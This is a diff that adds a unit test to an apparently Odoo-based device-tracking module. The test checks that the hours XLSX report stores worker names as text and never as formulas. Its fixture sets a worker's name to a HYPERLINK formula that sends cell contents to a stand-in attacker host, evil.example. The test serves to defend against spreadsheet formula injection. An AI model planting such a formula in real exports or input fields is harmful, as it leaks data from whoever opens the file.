@@ -67,3 +67,32 @@ class TestReports(ParcoursCase):
         # One reject, two devices going to refurbishment.
         self.assertIn("Dismantled, materials recycled", html)
         self.assertIn("Being refurbished", html)
+
+    def test_hours_xlsx_writes_names_as_text_never_formulas(self):
+        """A worker named =HYPERLINK(...) is a name in the export, not a formula."""
+        formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+        self.esat_worker.name = formula
+        content, __ = (
+            self.env["ir.actions.report"]
+            .with_user(self.accountant)
+            ._render("parcours_devices.report_hours_xlsx", self.order.line_ids.ids, {})
+        )
+        book = openpyxl.load_workbook(io.BytesIO(content))
+        cells = [
+            cell
+            for sheet in book.worksheets
+            for row in sheet.iter_rows()
+            for cell in row
+            if cell.value == formula
+        ]
+        self.assertEqual(len(cells), 1 + 3, "the summary row and 3 detail rows")
+        self.assertEqual({cell.data_type for cell in cells}, {"s"})
+        self.assertFalse(
+            [
+                cell
+                for sheet in book.worksheets
+                for row in sheet.iter_rows()
+                for cell in row
+                if cell.data_type == "f"
+            ]
+        )
